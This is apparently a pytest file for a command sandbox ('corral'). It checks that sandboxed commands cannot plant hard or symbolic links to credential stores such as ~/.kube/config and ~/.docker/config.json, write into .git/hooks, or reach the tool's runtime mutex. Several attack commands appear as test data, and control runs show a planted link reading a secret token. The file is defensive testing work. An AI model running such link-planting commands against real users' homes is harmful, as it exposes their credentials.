def test_a_missing_secret_store_cannot_be_made_in_a_writable_home(host_dir, monkeypatch, store):
    """The home a root: a command made ~/.kube/config with a hard link to it
    in sight, and read through the link, in a later run, the secret the user
    then wrote there (hidden only as ~/.kube)."""
    secret, make = store
    home = host_dir / "home"
    (home / ".docker").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    attack = f"{make}; ln {secret} ~/notes.txt"
    before = _tree(home)
    result = sandboxed(["sh", "-c", f"echo started; {attack}"], home)
    assert result.stdout == "started\n" and result.exit_code != 0, result.aggregated_output
    assert _tree(home) == before  # and no placeholder is left behind
    # The control: where it is not hidden, one run plants the link and the next reads through it.
    plant = sandboxed(["sh", "-c", attack], home,
                      policy=corral.SandboxPolicy.workspace_write(deny_read=()))
    assert plant.exit_code == 0, plant.aggregated_output
    with open(os.path.expanduser(secret), "w") as f:  # the user, in place
        f.write("token: s3cr3t\n")
    read = sandboxed(["cat", str(home / "notes.txt")], home)
    assert read.stdout == "token: s3cr3t\n"


def test_the_missing_directory_of_a_secret_store_cannot_be_made_in_a_writable_home(
        host_dir, monkeypatch):
    """No ~/.docker at all: made by a run, with config.json a link to a file
    in sight, the user's next ``docker login`` would write there.  The
    directory cannot be made; ~/.config, which many programs share, can
    (and ~/.config/gh in it then too: a gap README states)."""
    home = host_dir / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    attack = "mkdir -p ~/.docker && ln -s ../leak ~/.docker/config.json"
    result = sandboxed(["sh", "-c", f"echo started; {attack}"], home)
    assert result.stdout == "started\n" and result.exit_code != 0, result.aggregated_output
    assert os.listdir(home) == []
    shared = sandboxed(["sh", "-c", "mkdir -p ~/.config/tool && echo ok"], home)
    assert shared.stdout == "ok\n", shared.aggregated_output
    (home / ".local").mkdir()  # and beneath such a directory too
    keyrings = corral.SandboxPolicy.workspace_write(deny_read=("~/.local/share/keyrings",))
    beneath = sandboxed(["sh", "-c", "mkdir -p ~/.local/share/tool && echo ok"], home,
                        policy=keyrings)
    assert beneath.stdout == "ok\n", beneath.aggregated_output
    work = host_dir / "work"  # outside the home, a .cache is no directory many programs share
    work.mkdir()
    token = corral.SandboxPolicy.workspace_write(deny_read=(f"{work}/.cache/tool/token",))
    made = sandboxed(["sh", "-c", "mkdir -p .cache/tool && echo made"], work, policy=token)
    assert made.stdout == "" and made.exit_code != 0 and os.listdir(work) == []
    control = sandboxed(["sh", "-c", attack], home,
                        policy=corral.SandboxPolicy.workspace_write(deny_read=()))
    assert control.exit_code == 0 and os.readlink(home / ".docker" / "config.json") == "../leak"


def test_corrals_runtime_directory_is_out_of_the_commands_sight(repo, monkeypatch, host_dir):
    """With network /run is not hidden: the records there, and the mutex
    every run takes, would be the command's to lock, stalling other runs."""
    runtime = host_dir / "runtime"
    runtime.mkdir(mode=0o700)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    corral.run(["true"], cwd=repo)  # makes the runtime directory and its files
    assert (runtime / "corral").is_dir() and os.listdir(runtime / "corral")
    policy = corral.SandboxPolicy.workspace_write(network=True)
    result = corral.run(["ls", "-A", str(runtime / "corral")], cwd=repo, policy=policy)
    assert result.exit_code == 0 and result.stdout == ""


def test_corrals_runtime_directory_is_hidden_under_a_root_of_tmp_too(repo, monkeypatch):
    """Without XDG_RUNTIME_DIR (root, containers, cron) it is /tmp/corral-<uid>,
    which the sandbox's own /tmp hides, unless /tmp itself is a root."""
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    corral.run(["true"], cwd=repo)
    runtime = f"/tmp/corral-{os.getuid()}"
    assert os.listdir(runtime)
    policy = corral.SandboxPolicy.workspace_write(writable=("/tmp",))
    planted = f"{runtime}/planted-{os.getpid()}"
    try:
        result = corral.run(["sh", "-c", f"ls -A {runtime}; touch {planted}"], cwd=repo,
                            policy=policy)
        assert result.stdout == "" and not os.path.exists(planted)
    finally:
        if os.path.exists(planted):
            os.unlink(planted)
    control = corral.run(["ls", "-A", runtime], cwd=repo, policy="full-access")
    assert "mutex" in control.stdout


def test_the_whole_filesystem_as_the_root_still_shows_the_init_under_tmp(monkeypatch, tmp_path):
    """The root "/" is bound before the sandbox's private /tmp hides the
    host's: corral's init, installed under /tmp, must be bound back."""
    from corral.sandbox import bwrap

    found = bwrap.bwrap_backend()
    assert found is not None and found.init is not None
    init = tmp_path / "corral" / "_sandbox_init"
    init.parent.mkdir()
    init.write_bytes(Path(found.init).read_bytes())
    init.chmod(0o755)
    under_tmp = bwrap.BwrapBackend(found.path, str(init), init_mounts=found.init_mounts)
    monkeypatch.setattr(bwrap, "bwrap_backend", lambda: under_tmp)
    monkeypatch.setenv("PATH", f"{os.path.dirname(found.path)}{os.pathsep}/usr/bin:/bin")
    policy = corral.SandboxPolicy.workspace_write(protected=(), deny_read=())
    result = corral.run(["sh", "-c", "echo ran"], cwd="/", policy=policy, timeout=30)
    assert (result.exit_code, result.stdout) == (0, "ran\n"), result.aggregated_output


def test_a_working_directory_that_is_no_root_is_only_where_the_command_starts(host_dir, repo):
    """cwd_writable=False (the MCP server's): only the named roots are
    writable; the working directory, which someone else may name or swap
    for a link after any check, widens nothing."""
    elsewhere = host_dir / "elsewhere"
    elsewhere.mkdir()
    policy = corral.SandboxPolicy(corral.PolicyKind.WORKSPACE_WRITE, writable=(str(repo),),
                                  cwd_writable=False)
    result = sandboxed(["sh", "-c", f"pwd; touch made; touch {repo}/made"], elsewhere,
                       policy=policy)
    assert result.stdout == f"{elsewhere}\n" and result.exit_code == 0
    assert not (elsewhere / "made").exists() and (repo / "made").exists()
    hooks = sandboxed(["sh", "-c", "echo evil > hooks/x"], repo / ".git", policy=policy)
    assert hooks.exit_code != 0 and not (repo / ".git" / "hooks" / "x").exists()
    with pytest.raises(corral.PolicyError, match="cwd_writable applies to workspace-write"):
        corral.SandboxPolicy(corral.PolicyKind.READ_ONLY, cwd_writable=False)
    control = sandboxed(["touch", "made"], elsewhere)  # the working directory a root
    assert control.exit_code == 0 and (elsewhere / "made").exists()
